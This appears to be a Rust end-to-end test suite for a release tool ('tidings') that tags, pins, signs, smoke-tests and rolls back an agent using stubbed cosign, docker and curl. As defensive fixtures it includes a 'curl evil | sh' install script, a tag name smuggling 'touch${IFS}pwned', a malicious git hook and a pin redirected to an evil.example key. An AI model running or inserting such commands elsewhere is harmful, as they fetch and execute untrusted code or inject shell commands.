//! A whole release day, from nothing to mail: real repositories with real remotes, the install script that `init` makes, a real agent.
//! cosign, docker and curl are small scripts here; `tests/e2e` has the real ones.

use std::collections::HashMap;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use sha2::{Digest, Sha256};

use crate::fixture::{Run, TODAY};

/// A registry that has these manifests, by tag and by digest.
#[derive(Clone, Default)]
struct Registry(Arc<Mutex<HashMap<String, Vec<u8>>>>);

impl Registry {
    fn start(&self) -> u16 {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let registry = self.clone();
        std::thread::spawn(move || {
            listener
                .incoming()
                .flatten()
                .for_each(|stream| registry.answer(&stream))
        });
        port
    }

    fn answer(&self, stream: &TcpStream) {
        let mut reader = BufReader::new(stream.try_clone().unwrap());
        let (mut line, mut header) = (String::new(), String::new());
        reader.read_line(&mut line).unwrap();
        while reader
            .read_line(&mut header)
            .is_ok_and(|_| !header.trim().is_empty())
        {
            header.clear();
        }
        let reference = line
            .split(' ')
            .nth(1)
            .and_then(|path| path.rsplit('/').next())
            .unwrap_or("")
            .to_owned();
        let found = self.0.lock().unwrap().get(&reference).cloned();
        let (code, body) = found.map_or(("404 X", Vec::new()), |body| ("200 X", body));
        let head = format!(
            "HTTP/1.1 {code}\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        let mut out = stream;
        let _ = out.write_all(head.as_bytes());
        if !line.starts_with("HEAD") {
            let _ = out.write_all(&body);
        }
    }

    /// Builds an image and pushes it. Gives its digest.
    fn push(&self, version: &str) -> String {
        let manifest = format!("{{\"schemaVersion\":2,\"config\":{{\"version\":\"{version}\"}}}}")
            .into_bytes();
        let digest = format!(
            "sha256:{}",
            Sha256::digest(&manifest)
                .iter()
                .map(|byte| format!("{byte:02x}"))
                .collect::<String>()
        );
        let mut all = self.0.lock().unwrap();
        all.insert(format!("v{version}"), manifest.clone());
        all.insert(digest.clone(), manifest);
        digest
    }
}

/// Changes a pin.
pub type Spoil = fn(String) -> String;

pub struct Shop {
    folder: tempfile::TempDir,
    registry: Registry,
    registry_port: u16,
    port: u16,
}

impl Drop for Shop {
    fn drop(&mut self) {
        let state = self.at("agent-state");
        let _ = Command::new(env!("CARGO_BIN_EXE_tidings"))
            .args(["demo-agent", "stop", "--state"])
            .arg(state)
            .output();
    }
}

/// An engine for one agent: a container is a file with the agent's arguments, and `runs` names the one that runs.
const DOCKER: &str = r#"
dir=$STATE/containers
mkdir -p "$dir"
for word; do last=$word; done
up() {
  # shellcheck disable=SC2046
  nohup "$TIDINGS" demo-agent run --state "$STATE" --port "$ACME_AGENT_PORT" $(cat "$dir/$1") >/dev/null 2>&1 </dev/null &
  echo "$1" >"$STATE/runs"
}
down() {
  [ "$(cat "$STATE/runs" 2>/dev/null)" = "$1" ] || return 0
  "$TIDINGS" demo-agent stop --state "$STATE"
  rm -f "$STATE/runs"
}
case $1 in
  inspect) [ -f "$dir/$last" ] ;;
  stop) down "$last" ;;
  start) up "$last" ;;
  rename)
    [ -f "$dir/$2" ] || exit 1
    mv "$dir/$2" "$dir/$3"
    if [ "$(cat "$STATE/runs" 2>/dev/null)" = "$2" ]; then echo "$3" >"$STATE/runs"; fi ;;
  rm)
    [ -f "$dir/$last" ] || exit 1
    down "$last"
    rm "$dir/$last" ;;
  run)
    fact() { sed -n 's/^.*"'"$1"'": "\([^"]*\)".*$/\1/p' pin.json | head -n 1; }
    while [ "$1" != --name ]; do shift; done
    name=$2
    for word; do case $word in AGENT_DIGEST=*) digest=${word#*=} ;; esac; done
    echo "--release $(fact version) --digest $digest --revision $(fact source_revision)" >"$dir/$name"
    up "$name" ;;
esac
"#;

impl Shop {
    pub fn at(&self, path: &str) -> PathBuf {
        self.folder.path().join(path)
    }

    pub fn write(&self, path: &str, text: impl AsRef<[u8]>) {
        fs::create_dir_all(self.at(path).parent().unwrap()).unwrap();
        fs::write(self.at(path), text).unwrap();
    }

    pub fn read(&self, path: &str) -> String {
        fs::read_to_string(self.at(path)).unwrap_or_else(|_| panic!("no {path}"))
    }

    pub fn program(&self, name: &str, text: &str) {
        use std::os::unix::fs::PermissionsExt;
        self.write(&format!("bin/{name}"), format!("#!/bin/sh\n{text}"));
        fs::set_permissions(
            self.at(&format!("bin/{name}")),
            fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }

    pub fn command(&self, program: &str, folder: &str) -> Command {
        let mut command = Command::new(program);
        let path = format!(
            "{}:{}",
            self.at("bin").display(),
            std::env::var("PATH").unwrap()
        );
        command
            .current_dir(self.at(folder))
            .env_clear()
            .env("PATH", path)
            .env("HOME", self.folder.path())
            .env("SOURCE_DATE_EPOCH", TODAY);
        command
            .env("TIDINGS", env!("CARGO_BIN_EXE_tidings"))
            .env("STATE", self.at("agent-state"))
            .env("ACME_AGENT_PORT", self.port.to_string());
        command.stdin(Stdio::null());
        for who in ["AUTHOR", "COMMITTER"] {
            command
                .env(format!("GIT_{who}_NAME"), "T")
                .env(format!("GIT_{who}_EMAIL"), "t@example.org");
        }
        command
    }

    pub fn git(&self, folder: &str, arguments: &[&str]) -> String {
        let output = self
            .command("git", folder)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .args(arguments)
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{arguments:?} {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }

    pub fn tidings(&self, arguments: &[&str]) -> Run {
        self.tidings_in("agent", arguments)
    }

    pub fn tidings_in(&self, folder: &str, arguments: &[&str]) -> Run {
        let output = self
            .command(env!("CARGO_BIN_EXE_tidings"), folder)
            .args(arguments)
            .output()
            .unwrap();
        Run {
            code: output.status.code().unwrap_or(-1),
            out: String::from_utf8_lossy(&output.stdout).into_owned(),
            err: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    /// Source and bootstrap repository with their remotes, made by `init`; nothing is released.
    pub fn new() -> Self {
        let registry = Registry::default();
        let registry_port = registry.start();
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let shop = Shop {
            folder: tempfile::TempDir::new().unwrap(),
            registry,
            registry_port,
            port,
        };
        fs::create_dir_all(shop.at("agent/src")).unwrap();
        fs::create_dir_all(shop.at("agent-state")).unwrap();
        shop.program("cosign", "case \"$*\" in *--certificate-identity\\ https://github.com/acme/agent/*) exit 0 ;; *) echo no matching signature; exit 1 ;; esac\n");
        shop.program("curl", "for word; do last=$word; done\nexec \"$TIDINGS\" demo-agent ask --port \"$ACME_AGENT_PORT\" --wait 1\n");
        shop.program("docker", DOCKER);
        shop.git("agent", &["init", "--quiet", "--initial-branch=main", "."]);
        let port = shop.port.to_string();
        let init = [
            "init",
            "--product",
            "Acme Agent",
            "--vendor",
            "Acme",
            "--repository",
            "https://github.com/acme/agent-bootstrap",
            "--contact",
            "support@acme.example",
            "--port",
            &port,
        ];
        shop.tidings(&init).says(
            0,
            &[
                "11 files made",
                "../acme-agent-bootstrap is what customers clone",
            ],
        );
        shop.tidings(&init)
            .says(0, &["0 files made", "is there already and stays as it is"]);
        shop.write(
            "agent/Cargo.toml",
            "[package]\nname = \"agent\" # the agent\nversion = \"0.9.0\"\n",
        );
        shop.write(
            "agent/docs-internal/customers.csv",
            "customer,name,email,running,kinds\nglobex,Ada,ada@globex.example,,\n",
        );
        let operator = shop.read("agent/operator.toml")
            + "[[staging.operation]]\nname = \"it answers\"\nrun = \"curl here\"\n\n[budget]\ncut = \"3s\"\n";
        shop.write("agent/operator.toml", operator);
        shop.write("agent/.gitignore", ".tidings/\noutbox/\nrelease-page/\n");
        for (folder, remote) in [
            ("agent", "agent.git"),
            ("acme-agent-bootstrap", "bootstrap.git"),
        ] {
            fs::create_dir_all(shop.at(remote)).unwrap();
            shop.git(
                remote,
                &["init", "--quiet", "--bare", "--initial-branch=main", "."],
            );
            shop.git(
                folder,
                &["remote", "add", "origin", &format!("../{remote}")],
            );
            shop.git(folder, &["add", "-A"]);
            shop.git(folder, &["commit", "--quiet", "-m", "begin"]);
            shop.git(folder, &["push", "--quiet", "-u", "origin", "main"]);
        }
        shop
    }

    /// Something for the next release.
    pub fn develop(&self, section: &str, item: &str) {
        let text = self.read("agent/CHANGELOG.md");
        let entry = format!(
            "## [Unreleased]\n\nThe agent is better now. Install it when you like.\n\n### Required action\n\nNothing.\n\n### {section}\n\n- {item}\n"
        );
        self.write(
            "agent/CHANGELOG.md",
            text.replacen("## [Unreleased]\n", &entry, 1),
        );
        self.write("agent/src/code.rs", item);
        self.git("agent", &["add", "-A"]);
        self.git("agent", &["commit", "--quiet", "-m", item]);
        self.git("agent", &["push", "--quiet"]);
    }

    /// What the pipeline does once the tag is there: builds, pushes, proposes the pin. `spoil` changes the pin.
    fn pipeline(&self, version: &str, spoil: Spoil) {
        let tag = format!("v{version}");
        let end = std::time::Instant::now() + Duration::from_secs(20);
        while !self
            .git("agent.git", &["tag", "--list"])
            .lines()
            .any(|line| line == tag)
        {
            assert!(std::time::Instant::now() < end, "no tag came");
            std::thread::sleep(Duration::from_millis(20));
        }
        self.propose(version, spoil);
    }

    pub fn propose(&self, version: &str, spoil: Spoil) {
        let tag = format!("v{version}");
        let revision = self.git("agent.git", &["rev-parse", &format!("{tag}^{{commit}}")]);
        let digest = self.registry.push(version);
        let _ = fs::remove_dir_all(self.at("runner"));
        self.git(".", &["clone", "--quiet", "bootstrap.git", "runner"]);
        let pin = format!(
            "{{\n \"version\": \"{version}\",\n \"tag\": \"{tag}\",\n \"digest\": \"127.0.0.1:{}/acme/agent@{digest}\",\n \"source_revision\": \"{revision}\",\n \
             \"certificate_identity\": \"https://github.com/acme/agent/.github/workflows/release.yml@refs/tags/{tag}\",\n \
             \"certificate_oidc_issuer\": \"https://token.actions.githubusercontent.com\"\n}}\n",
            self.registry_port
        );
        self.write("runner/pin.json", spoil(pin));
        self.write(
            "runner/CHANGELOG.md",
            self.git("agent.git", &["show", &format!("{tag}:CHANGELOG.md")]) + "\n",
        );
        self.git(
            "runner",
            &["checkout", "--quiet", "-B", &format!("pin/{tag}")],
        );
        self.git("runner", &["add", "-A"]);
        self.git(
            "runner",
            &["commit", "--quiet", "-m", &format!("Pin {tag}")],
        );
        self.git(
            "runner",
            &[
                "push",
                "--quiet",
                "--force",
                "origin",
                &format!("pin/{tag}"),
            ],
        );
    }

    pub fn release(&self, to: &str, version: &str) {
        self.tidings(&["bump", to, "--commit", "--push"])
            .says(0, &[&format!("→ {version} in Cargo.toml")]);
        self.tidings(&["preflight"])
            .says(0, &[&format!("{version}: good")]);
        std::thread::scope(|scope| {
            scope.spawn(|| self.pipeline(version, |pin| pin));
            self.tidings(&["cut", "--yes"]).says(
                0,
                &[
                    &format!("v{version} is released; nobody has been told"),
                    "The agent is better now.",
                ],
            );
        });
    }
}

pub fn same(pin: String) -> String {
    pin
}

/// The pin with other characters behind these words.
fn overwritten(mut pin: String, behind: &str, with: &str) -> String {
    let at = pin.find(behind).unwrap() + behind.len();
    pin.replace_range(at..at + with.len(), with);
    pin
}

#[test]
fn from_nothing_to_mail_and_back() {
    let shop = Shop::new();
    assert!(
        shop.read("acme-agent-bootstrap/README.md")
            .contains("Fixes only."),
        "the policy stands in the README"
    );
    shop.tidings(&["preflight"])
        .says(1, &["FAIL", "changelog entry"]);
    shop.develop("Added", "It makes backups.");
    // What is recommended first works: there is nothing to tag yet.
    shop.tidings(&["status"])
        .says(0, &["next: tidings bump minor --commit --push"]);
    shop.release("1.0.0", "1.0.0");
    let toml = shop.read("agent/Cargo.toml");
    assert_eq!(
        toml,
        "[package]\nname = \"agent\" # the agent\nversion = \"1.0.0\"\n"
    );
    shop.tidings(&["status"])
        .says(0, &["v1.0.0", "next: tidings smoke"]);
    // Typed again, each step sees that it is done.
    shop.tidings(&["cut", "--yes"]).says(
        0,
        &[
            "v1.0.0 is at `origin`",
            "the pin is on the main branch",
            "v1.0.0 is released",
        ],
    );
    shop.tidings(&["email", "send", "--yes"])
        .says(1, &["gate-smoke", "gate-page"]);
    shop.tidings(&["smoke"]).says(
        0,
        &[
            "v1.0.0 passed its smoke test",
            "no earlier release can be installed",
            "it answers",
        ],
    );
    shop.tidings(&["publish"]).ok();
    shop.tidings(&["email", "send", "--yes"])
        .says(0, &["1 written"]);
    shop.tidings(&["status"])
        .says(0, &["done: it is released, and everybody was told"]);

    shop.develop("Fixed", "It no longer forgets backups.");
    shop.tidings(&["bump", "patch", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    shop.tidings(&["cut", "--yes"])
        .says(2, &["proposed pin: not there"]);
    // Whoever proposes a pin does not choose who signs.
    let spoils: [Spoil; 3] = [
        |pin| pin.replace("workflows/release.yml", "workflows/other.yml"),
        |pin| {
            pin.replace(
                "\"certificate_identity\"",
                "\"public_key\": \"https://evil.example/key\",\n \"x\"",
            )
        },
        |pin| {
            pin.replace(
                "\"https://github.com/acme/agent/.github/workflows/release.yml@",
                "\"https://github.com/acme/agent/other@",
            )
        },
    ];
    for spoil in spoils {
        shop.propose("1.0.1", spoil);
        shop.tidings(&["review"])
            .says(1, &["FAIL         signing identity"]);
    }
    shop.propose("1.0.1", same);
    shop.tidings(&["cut", "--yes"])
        .says(0, &["v1.0.1 is released"]);
    shop.tidings(&["smoke"]).says(
        0,
        &[
            "check out v1.0.0",
            "/version names 1.0.0",
            "v1.0.1 passed its smoke test",
        ],
    );
    shop.tidings(&["verify", "1.0.0"]);
    let log = shop.read(".local/state/acme-agent/install.log");
    assert!(
        log.contains("installing 1.0.1 (sha256:") && log.contains("running 1.0.0"),
        "{log}"
    );
    shop.tidings_in("acme-agent-bootstrap", &["rollback"])
        .says(2, &["nobody confirms it", "1.0.1 runs; back to 1.0.0"]);
    // The forge is away: the clone and the registry are enough.
    fs::rename(shop.at("bootstrap.git"), shop.at("away.git")).unwrap();
    shop.tidings_in("acme-agent-bootstrap", &["rollback", "--yes"])
        .says(0, &["1.0.0 runs again", "tidings incident --write"]);
    shop.tidings_in("acme-agent-bootstrap", &["identify"])
        .says(0, &["1.0.0"]);
    shop.tidings_in("acme-agent-bootstrap", &["rollback", "--yes"])
        .says(1, &["rollback-target", "there is no release before 1.0.0"]);
}

#[test]
fn the_checklist_finds_what_is_not_so() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.tidings(&["bump", "patch"])
        .says(1, &["entry-level", "It makes backups."]);
    shop.write("agent/src/code.rs", "const VERSION: &str = \"0.9.0\";\n");
    shop.git("agent", &["commit", "--quiet", "-am", "stray"]);
    shop.tidings(&["bump", "minor"])
        .says(1, &["version-elsewhere", "src/code.rs:1"]);
    shop.tidings(&["bump", "0.8.0"])
        .says(2, &["0.8.0 is not above 0.9.0"]);
    shop.tidings(&["bump", "soon"])
        .says(2, &["`soon` is no level and no version"]);
    let operator = shop.read("agent/operator.toml");
    shop.write(
        "agent/operator.toml",
        operator.replace("[source]\n", "[source]\nversion_elsewhere = [\"src/**\"]\n"),
    );
    shop.tidings(&["bump", "minor", "--dry-run"])
        .says(0, &["0.9.0 → 0.10.0"]);
    shop.write("agent/operator.toml", operator);
    shop.write("agent/src/code.rs", "");
    shop.git("agent", &["commit", "--quiet", "-am", "gone"]);
    let before = shop.read("agent/CHANGELOG.md");
    shop.tidings(&["bump", "minor", "--dry-run"])
        .says(0, &["0.9.0 → 0.10.0"]);
    assert_eq!(
        shop.read("agent/CHANGELOG.md"),
        before,
        "a dry run changes nothing"
    );
    shop.tidings(&["cut", "--yes"]).says(1, &["entry-missing"]);
    shop.tidings(&["bump", "minor", "--commit"])
        .says(0, &["dated 2026-11-22"]);
    assert!(
        shop.read("agent/CHANGELOG.md")
            .contains("## [Unreleased]\n\n## [0.10.0] - 2026-11-22\n\nThe agent is better")
    );
    shop.tidings(&["cut", "--yes"])
        .says(1, &["gate-preflight", "tidings preflight"]);
    shop.tidings(&["preflight"])
        .says(1, &["FAIL", "pushed", "is another commit at `origin`"]);
    shop.git("agent", &["push", "--quiet"]);
    shop.tidings(&["preflight"]).says(
        0,
        &[
            "not checked  hygiene script",
            "pass         one version",
            "0.10.0: good",
        ],
    );

    let operator = shop.read("agent/operator.toml");
    shop.write(
        "agent/operator.toml",
        operator.replace(
            "[source]\n",
            "[source]\nhygiene = \"echo a secret lies about; exit 3\"\n",
        ),
    );
    shop.tidings(&["preflight"]).says(
        1,
        &[
            "ended with 3",
            "a secret lies about",
            "FAIL         tree clean",
        ],
    );
    shop.write("agent/operator.toml", operator);
    shop.write(
        "agent/docs/version.md",
        "This is 0.10.0, and 0.10.01 is not.\n",
    );
    shop.git("agent", &["add", "-A"]);
    shop.git("agent", &["switch", "--quiet", "-c", "other"]);
    shop.tidings(&["preflight"])
        .says(1, &["docs/version.md:1 too", "this is `other`"]);
    shop.git("agent", &["reset", "--quiet", "--hard", "main"]);
    shop.git("agent", &["checkout", "--quiet", "--detach", "main"]);
    shop.tidings(&["preflight"])
        .says(1, &["the head is detached"]);
    shop.git("agent", &["switch", "--quiet", "main"]);
    shop.write(
        "acme-agent-bootstrap/docs-internal/incident-1.md",
        "what happened",
    );
    shop.git("acme-agent-bootstrap", &["add", "-A"]);
    shop.tidings(&["preflight"]).says(
        1,
        &[
            "FAIL         nothing internal",
            "docs-internal/incident-1.md",
        ],
    );
    let ran = shop.tidings(&["preflight", "--format", "json"]);
    let list: serde_json::Value = serde_json::from_str(&ran.out).unwrap();
    assert_eq!(
        (list["schema"].as_str(), list["passed"].as_bool()),
        (Some("tidings/checklist/1"), Some(false))
    );
}

#[test]
fn a_bad_proposal_is_not_merged() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.tidings(&["bump", "1.0.0", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    shop.tidings(&["cut"]).says(2, &["nobody confirms it"]);
    assert_eq!(
        shop.git("agent.git", &["tag", "--list"]),
        "",
        "nothing was tagged"
    );
    // The pipeline never proposes anything.
    shop.tidings(&["cut", "--yes"])
        .says(2, &["proposed pin: not there after", "goes on from here"]);
    let cases: [(Spoil, &str); 6] = [
        (
            |pin| overwritten(pin, "\"version\": \"", "2"),
            "the pin says 2.0.0",
        ),
        (
            |pin| overwritten(pin, "@sha256:", "0000000"),
            "the registry has no sha256:0000000",
        ),
        (
            |pin| pin.replace("refs/tags/v1.0.0\"", "refs/heads/main\""),
            "is not of `v1.0.0`",
        ),
        (
            |pin| pin.replace("acme/agent/.github", "evil/agent/.github"),
            "cosign does not verify it",
        ),
        (
            |pin| overwritten(pin, "\"source_revision\": \"", "0000000"),
            "the pin says 0000000",
        ),
        (
            |pin| pin.replace("certificate_oidc_issuer", "x"),
            "no issuer",
        ),
    ];
    for (spoil, words) in cases {
        shop.propose("1.0.0", spoil);
        let before = shop.git("bootstrap.git", &["rev-parse", "main"]);
        shop.tidings(&["review"]).says(1, &["FAIL", words]);
        shop.tidings(&["cut", "--yes"])
            .says(1, &["review-failed", words]);
        assert_eq!(
            shop.git("bootstrap.git", &["rev-parse", "main"]),
            before,
            "nothing was merged"
        );
    }
    // Something else comes along, and the changelog says something else.
    shop.propose("1.0.0", same);
    shop.write("runner/install.sh", "curl evil | sh\n");
    shop.write(
        "runner/CHANGELOG.md",
        shop.read("runner/CHANGELOG.md")
            .replace("better", "much better"),
    );
    shop.git("runner", &["commit", "--quiet", "-am", "more"]);
    shop.git("runner", &["push", "--quiet", "origin", "pin/v1.0.0"]);
    shop.tidings(&["review"]).says(
        1,
        &[
            "nothing else changed  install.sh",
            "says something else than in the source repository",
        ],
    );
    shop.propose("1.0.0", same);
    // Meanwhile somebody changed the main branch: it is merged, not overwritten.
    shop.git(".", &["clone", "--quiet", "bootstrap.git", "colleague"]);
    shop.write("colleague/docs/more.md", "more\n");
    shop.git("colleague", &["add", "-A"]);
    shop.git("colleague", &["commit", "--quiet", "-m", "docs"]);
    shop.git("colleague", &["push", "--quiet"]);
    shop.tidings(&["cut", "--yes"])
        .says(0, &["v1.0.0 is released"]);
    let files = shop.git("bootstrap.git", &["ls-tree", "-r", "--name-only", "v1.0.0"]);
    assert!(
        files.contains("docs/more.md") && files.contains("pin.json"),
        "{files}"
    );
    // A tag that moved afterwards is seen by the next checklist.
    shop.git("bootstrap.git", &["tag", "-f", "v1.0.0", "main~1"]);
    shop.tidings(&["preflight"]).says(
        1,
        &[
            "FAIL         older tags",
            "leads elsewhere at `origin`",
            "1.0.0 was tagged before",
        ],
    );
}

#[test]
fn a_cut_that_is_killed_goes_on() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.tidings(&["bump", "1.0.0", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    std::thread::scope(|scope| {
        scope.spawn(|| shop.pipeline("1.0.0", same));
        for round in 0..12 {
            let mut command = shop.command(env!("CARGO_BIN_EXE_tidings"), "agent");
            let mut child = command
                .args(["cut", "--yes"])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            std::thread::sleep(Duration::from_millis(20 + round * 25));
            let _ = child.kill();
            child.wait().unwrap();
        }
    });
    shop.tidings(&["cut", "--yes"])
        .says(0, &["v1.0.0 is released"]);
    for remote in ["agent.git", "bootstrap.git"] {
        assert_eq!(shop.git(remote, &["tag", "--list"]), "v1.0.0");
    }
    shop.tidings(&["smoke"]).ok();
}

#[test]
fn a_smoke_test_that_fails_keeps_what_it_saw() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.release("1.0.0", "1.0.0");
    shop.program("cosign", "echo no matching signature; exit 1\n");
    shop.tidings(&["smoke"]).says(
        1,
        &[
            "smoke-failed",
            "the signature is not that of",
            "all that was seen is in",
        ],
    );
    let kept = shop.read("agent/docs-internal/smoke-2026-11-22-v1.0.0.txt");
    assert!(
        kept.contains("failed   install v1.0.0") && kept.contains("clone v1.0.0"),
        "{kept}"
    );
    shop.tidings(&["publish"]).says(1, &["gate-smoke"]);
    // An install script that hangs is stopped, with all that it started.
    let operator = shop
        .read("agent/operator.toml")
        .replace("[budget]\n", "[budget]\nsmoke = \"1s\"\n");
    shop.write("agent/operator.toml", operator);
    shop.program("cosign", "echo still waiting for the log; sleep 600\n");
    let start = std::time::Instant::now();
    shop.tidings(&["smoke"])
        .says(1, &["was stopped after", "all steps together may take 3 s"]);
    assert!(start.elapsed() < Duration::from_secs(30));
    // The latest build of main, before a cut.
    shop.tidings(&["smoke", "--main"])
        .says(2, &["main_install"]);
    let operator = shop.read("agent/operator.toml").replace(
        "[staging]\n",
        "[staging]\nmain_install = \"nohup $TIDINGS demo-agent run --state $STATE --port $ACME_AGENT_PORT --release 1.1.0-dev --digest sha256:0 --revision {commit} >/dev/null 2>&1 </dev/null &\"\n",
    );
    shop.write("agent/operator.toml", operator);
    shop.tidings(&["smoke", "--main"])
        .says(0, &["the latest build of main passed"]);
    shop.tidings(&["preflight"])
        .says(1, &["pass         tried on staging"]);
    let receipts = shop.tidings(&["ledger"]).ok().out;
    assert!(
        receipts.contains("smoke-main") && !receipts.contains(" smoke "),
        "{receipts}"
    );
}

/// git's own configuration of the user, and hooks, change nothing.
#[test]
fn hostile_names_and_settings_do_nothing() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.write(".gitconfig", "[core]\n\thooksPath = /nonexistent\n[push]\n\tdefault = nothing\n\tfollowTags = true\n[fetch]\n\tprune = true\n[alias]\n\tstatus = !false\n");
    for folder in ["agent", "acme-agent-bootstrap"] {
        let hook = shop.at(folder).join(".git/hooks/pre-push");
        fs::create_dir_all(hook.parent().unwrap()).unwrap();
        fs::write(&hook, "#!/bin/sh\ntouch \"$HOME/pwned\"; exit 1\n").unwrap();
        let _ = Command::new("chmod").arg("755").arg(&hook).status();
    }
    shop.git(
        "bootstrap.git",
        &["tag", "--", "v9.9.9;touch${IFS}pwned", "main"],
    );
    shop.release("1.0.0", "1.0.0");
    assert!(!Path::new(&shop.at("pwned")).exists());
}

#[test]
fn an_agent_that_lies_and_targets_that_are_none() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.release("1.0.0", "1.0.0");
    for item in ["It no longer forgets backups.", "It is quicker."] {
        shop.develop("Fixed", item);
        shop.release(
            "patch",
            if item.contains("forgets") {
                "1.0.1"
            } else {
                "1.0.2"
            },
        );
    }
    shop.tidings(&["smoke"]).ok();
    let docker = shop.read("bin/docker");
    shop.write(
        "bin/docker",
        docker.replace("--digest $digest", "--digest sha256:another"),
    );
    shop.tidings(&["smoke"]).says(
        1,
        &[
            "smoke-failed",
            "digest is `sha256:another`, and should be `sha256:",
        ],
    );
    shop.tidings_in("acme-agent-bootstrap", &["rollback", "--yes"])
        .says(
            1,
            &[
                "rollback-failed",
                "digest is `sha256:another`",
                "tidings identify",
            ],
        );
    shop.write("bin/docker", docker);
    shop.git("acme-agent-bootstrap", &["checkout", "--quiet", "main"]);
    let bootstrap = |arguments: &[&str]| shop.tidings_in("acme-agent-bootstrap", arguments);
    bootstrap(&["rollback", "1.0.7", "--yes"]).says(1, &["version-unknown"]);
    let log = shop.read("acme-agent-bootstrap/CHANGELOG.md");
    shop.write(
        "acme-agent-bootstrap/CHANGELOG.md",
        log.replace(
            "## [1.0.1] - 2026-11-22",
            "## [1.0.1] - 2026-11-22 [YANKED]",
        ),
    );
    bootstrap(&["rollback", "1.0.0", "--from", "1.0.2", "--yes"]).says(
        2,
        &[
            "1 file changed here and not committed, `CHANGELOG.md`",
            "git stash",
        ],
    );
    shop.git(
        "acme-agent-bootstrap",
        &["commit", "--quiet", "-am", "withdrawn"],
    );
    bootstrap(&["rollback", "1.0.1", "--yes"]).says(1, &["rollback-target", "1.0.1 was withdrawn"]);
    // From the source repository it is written down, and stands in the report of the incident.
    shop.tidings(&["rollback", "--from", "1.0.2", "--yes"])
        .says(0, &["1.0.0 runs again"]);
    shop.tidings(&["ledger"]).says(0, &["rolled-back"]);
    shop.git("acme-agent-bootstrap", &["checkout", "--quiet", "main"]);
    shop.tidings(&["incident", "--version", "1.0.2"])
        .says(0, &["What the ledger says of it:", ": smoke", ": cut"]);
}

#[test]
fn remotes_that_say_something_else() {
    let shop = Shop::new();
    shop.develop("Added", "It makes backups.");
    shop.tidings(&["bump", "1.0.0", "--commit", "--push"]).ok();
    shop.tidings(&["preflight"]).ok();
    // The tag stands elsewhere already: here, then at the remote too.
    shop.git("agent", &["tag", "v1.0.0", "HEAD~1"]);
    shop.tidings(&["cut", "--yes"]).says(
        2,
        &[
            "there is a tag `v1.0.0` here that leads elsewhere",
            "git tag -d v1.0.0",
        ],
    );
    shop.git("agent", &["push", "--quiet", "origin", "v1.0.0"]);
    shop.git("agent", &["tag", "-f", "v1.0.0", "HEAD"]);
    shop.tidings(&["cut", "--yes"]).says(
        2,
        &[
            "`v1.0.0` leads to another commit at `origin` than here",
            "find out who moved it",
        ],
    );
    fs::rename(shop.at("agent.git"), shop.at("away.git")).unwrap();
    shop.tidings(&["preflight"]).says(2, &["git remote -v"]);
    shop.tidings(&["cut", "--yes"]).says(2, &["git remote -v"]);
}
